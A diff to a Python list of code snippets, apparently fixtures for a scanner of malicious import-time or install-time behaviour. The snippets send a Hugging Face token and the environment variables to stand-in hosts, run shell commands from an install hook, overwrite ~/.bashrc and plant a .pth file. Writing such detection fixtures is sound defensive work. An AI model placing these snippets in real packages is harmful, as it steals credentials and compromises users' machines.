@@ -101,7 +101,7 @@ ON_IMPORT = [
     "import os, urllib.request\nurllib.request.urlopen('http://example.org/?' + os.environ['HF_TOKEN'])",
     "from setuptools import setup, Command\nimport os\nclass I(Command):\n    def run(self):\n        os.system('id')\n"  # noqa: ISC004
     "setup(cmdclass={'install': I})",
-    "import os, json, urllib.request as u\nu.urlopen(u.Request('http://x', data=json.dumps(dict(os.environ)).encode()))",
+    "import os, urllib.request as u\nu.urlopen(u.Request('http://x', data=bytes(str(os.environ))))",
     "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')",
     "import shutil\nshutil.copy('x', '/usr/lib/python3/site-packages/x.pth')",
     "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')\nasyncio.run(f())",
